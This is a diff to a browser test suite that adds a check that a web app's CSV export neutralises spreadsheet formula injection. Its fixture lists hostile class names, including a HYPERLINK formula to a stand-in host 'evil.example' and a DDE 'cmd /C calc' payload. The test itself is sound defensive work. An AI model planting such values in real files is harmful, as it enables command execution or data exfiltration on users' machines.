@@ -8,7 +8,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { test } from 'node:test';
 
-import { chromiumOrSkip, input, launchChromium, settledState, startDemoServer, webDir } from './web-harness.mjs';
+import { splitCsv } from '../../web/js/lib/csv-lite.mjs';
+import { chromiumOrSkip, input, launchChromium, settledState, startDemoServer, visibleAlerts, webDir } from './web-harness.mjs';
 
 // Source expressions that keep a policy on this origin; anything else (a host, https:, *) is remote.
 const LOCAL_SOURCES = new Set(["'self'", "'none'", "'unsafe-inline'", "'wasm-unsafe-eval'", 'data:', 'blob:']);
@@ -93,6 +94,31 @@ test('page safety in headless Chromium', { timeout: 300_000 }, async (t) => {
       assert.equal(await page.$$eval('script', (els) => els.filter((s) => !s.src).length), 0, 'no inline <script> element');
       const body = await page.textContent('body');
       for (const h of headers) assert.ok(body.includes(h), `header ${h} shown as text`);
+    });
+
+    await t.test('CSV export: hostile class names are quoted and prefixed with \' (OWASP CSV injection)', async () => {
+      // Class names (prediction columns and label values) that a spreadsheet would run as formulas.
+      const hostile = ['=HYPERLINK("http://evil.example/?x";"click")', ' =5+6', '@SUM(1+1)', '+1+cmd|\' /C calc\'!A0', '-2+3', '\t=1+1'];
+      const quote = (s) => `"${s.replace(/"/g, '""')}"`;
+      const rows = Array.from({ length: 36 }, (_, i) => {
+        const probs = hostile.map((_, k) => (k === i % hostile.length ? 0.5 : 0.1));
+        return `${probs.join(',')},${quote(hostile[(i * 5) % hostile.length])}`;
+      });
+      const path = join(tmp, 'hostile-labels.csv');
+      writeFileSync(path, hostile.map(quote).join(',') + ',label\n' + rows.join('\n') + '\n');
+      await page.setInputFiles(input('predictions'), path);
+      assert.equal(await settled(), 'ready', JSON.stringify(await visibleAlerts(page)));
+      const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
+      const text = readFileSync(await download.path(), 'utf8');
+      const cells = splitCsv(text, ',').flat();
+      // Every field is quoted: the text has exactly the fields' quotes (no bare field).
+      for (const line of text.trimEnd().split('\n').slice(1)) assert.match(line, /^"([^"]|"")*"(,"([^"]|"")*")*$/, `an unquoted field in ${line}`);
+      const formula = /^(?:[\t\r\n]|[\s\u00a0]*[=+\-@])/;
+      const risky = cells.filter((c) => formula.test(c) && !/^-?\d/.test(c));
+      assert.deepEqual(risky, [], 'cells a spreadsheet would read as a formula');
+      const names = cells.filter((c) => hostile.some((h) => c.includes(h.trim())));
+      assert.ok(names.length >= hostile.length, `the class names are exported (${names.length} cells)`);
+      for (const h of hostile) assert.ok(cells.some((c) => c.startsWith(`'`) && c.slice(1).trim() === h.trim()), `${JSON.stringify(h)} exported as '${h}`);
     });
 
     await t.test('the browser enforces the CSP: remote fetches, remote images and inline scripts are refused', async () => {
